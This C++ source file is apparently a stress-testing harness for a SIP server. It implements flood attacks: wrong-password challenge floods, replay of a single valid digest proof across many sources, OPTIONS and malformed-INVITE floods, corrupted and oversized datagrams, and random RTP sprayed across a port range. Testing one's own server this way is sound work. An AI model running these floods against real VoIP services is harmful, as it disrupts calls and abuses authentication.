#include "attack.h"

#include <array>
#include <random>

#include "sip_attack.h"
#include "valid_calls.h"

namespace portico::flood {
namespace {

// Takes each challenge and answers it with a password that is wrong.
class Guess final : public SipAttack {
 public:
  using SipAttack::SipAttack;
  void on_datagram(ManySources& sources, std::size_t source, std::string_view bytes) override {
    SipAttack::on_datagram(sources, source, bytes);
    if (status_of(bytes) != 407 || !field(bytes, "CSeq").starts_with("1 ")) return;
    const auto guess = proof(nonce_of(bytes), "guess-" + std::to_string(guesses_++));
    sources.send(source, options_.target, request(sources, source, call_of(bytes), "INVITE", 2, guess));
  }

 private:
  std::uint64_t guesses_ = 0;
};

// Proves the right password once, then everybody uses that proof.
class Replay final : public SipAttack {
 public:
  using SipAttack::SipAttack;
  bool ready() const override { return used_; }
  void begin(ManySources& sources) override {
    sources.send(0, options_.target, request(sources, 0, "first", "INVITE", 1, ""));
  }
  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto source = turn % sources.size();
    sources.send(source, options_.target,
                 request(sources, source, std::to_string(turn), "INVITE", 1, proof_));
  }
  void on_datagram(ManySources& sources, std::size_t source, std::string_view bytes) override {
    SipAttack::on_datagram(sources, source, bytes);
    const auto status = status_of(bytes);
    if (call_of(bytes) != "first" || status < 200) return;
    if (field(bytes, "CSeq").starts_with("1 ")) {
      proof_ = proof(nonce_of(bytes), options_.password);
      sources.send(0, options_.target, request(sources, 0, "first", "INVITE", 2, proof_));
      return;
    }
    used_ = true;
    auto ack = request(sources, 0, "first", "ACK", 2, "");
    const auto to = field(bytes, "To");
    const auto at = ack.find("\r\nTo: ") + 6;
    sources.send(0, options_.target, ack.replace(at, ack.find("\r\n", at) - at, to));
  }

 private:
  std::string proof_;
  bool used_ = false;
};

class Probe final : public SipAttack {
 public:
  using SipAttack::SipAttack;
  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto source = turn % sources.size();
    sources.send(source, options_.target, request(sources, source, std::to_string(turn), "OPTIONS", 1, ""));
  }
};

// The fewest bytes that an answer is given to: the budget of a source is spent by refusals.
class Malformed final : public SipAttack {
 public:
  using SipAttack::SipAttack;
  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto source = turn % sources.size();
    const auto here = sources.address(source) + ":" + std::to_string(sources.port());
    const auto number = std::to_string(turn);
    sources.send(source, options_.target,
                 "INVITE sip:a SIP/2.0\r\nv:SIP/2.0/UDP " + here + ";rport;branch=z9hG4bK" + number +
                     "\r\nf:<sip:f>;tag=f\r\nt:<sip:a>\r\ni:" + number +
                     "\r\nCSeq:1 INVITE\r\nMax-Forwards:9\r\nl:x\r\n\r\n");
  }
};

// Bytes of all sorts: noise, halves of requests, broken fields, answers that nobody waits for.
class Garbage final : public SipAttack {
 public:
  using SipAttack::SipAttack;
  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto source = turn % sources.size();
    sources.send(source, options_.target, datagram(sources, source, turn));
  }

 private:
  std::string datagram(const ManySources& sources, std::size_t source, std::uint64_t turn) {
    const auto invite = request(sources, source, std::to_string(turn), "INVITE", 1, "");
    switch (turn % 6) {
      case 0:
        return noise(1 + random_() % 1'400);
      case 1:
        return invite.substr(0, random_() % invite.size());
      case 2: {
        auto broken = invite;
        for (int i = 0; i < 4; ++i) broken[random_() % broken.size()] = static_cast<char>(random_());
        return broken;
      }
      case 3:
        return "SIP/2.0 200 OK\r\n" + invite.substr(invite.find("\r\n") + 2);
      case 4:
        return invite.substr(0, invite.size() - 2) + "X: " + std::string(random_() % 20'000, 'x') +
               "\r\n\r\n";
      default:
        return std::string("\r\n\r\n");
    }
  }
  std::string noise(std::size_t size) {
    std::string bytes(size, '\0');
    for (auto& byte : bytes) byte = static_cast<char>(random_());
    return bytes;
  }

  std::mt19937 random_{20'250'101};
};

// Loud noise as RTP, to every port of the range.
class Spray final : public Attack {
 public:
  explicit Spray(const Options& options) : options_(options) {}
  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto ports = static_cast<std::uint64_t>(options_.port_high - options_.port_low) + 1;
    const auto sequence = static_cast<std::uint16_t>(turn / ports);
    std::array<char, 172> packet{};
    packet[0] = static_cast<char>(0x80);
    packet[2] = static_cast<char>(sequence >> 8);
    packet[3] = static_cast<char>(sequence);
    packet[6] = static_cast<char>((sequence * 160) >> 8);
    packet[7] = static_cast<char>(sequence * 160);
    packet[11] = 7;
    for (std::size_t i = 12; i < packet.size(); ++i) packet[i] = static_cast<char>(random_());
    const Endpoint to{.ip = options_.target.ip,
                      .port = static_cast<std::uint16_t>(options_.port_low + turn % ports)};
    if (to.port == sources.port())
      return;  // the kernel gave us one of the range: what we get is what we sent
    sources.send((turn / ports) % sources.size(), to, {packet.data(), packet.size()});
  }
  void on_datagram(ManySources&, std::size_t, std::string_view) override { ++statuses[0]; }

 private:
  const Options options_;
  std::mt19937 random_{7};
};

}  // namespace

std::unique_ptr<Attack> make_attack(const Options& options) {
  if (options.kind == "invite") return std::make_unique<SipAttack>(options);
  if (options.kind == "guess") return std::make_unique<Guess>(options);
  if (options.kind == "replay") return std::make_unique<Replay>(options);
  if (options.kind == "options") return std::make_unique<Probe>(options);
  if (options.kind == "malformed") return std::make_unique<Malformed>(options);
  if (options.kind == "garbage") return std::make_unique<Garbage>(options);
  if (options.kind == "calls") return std::make_unique<ValidCalls>(options);
  if (options.kind == "rtp") return std::make_unique<Spray>(options);
  return nullptr;
}

}  // namespace portico::flood
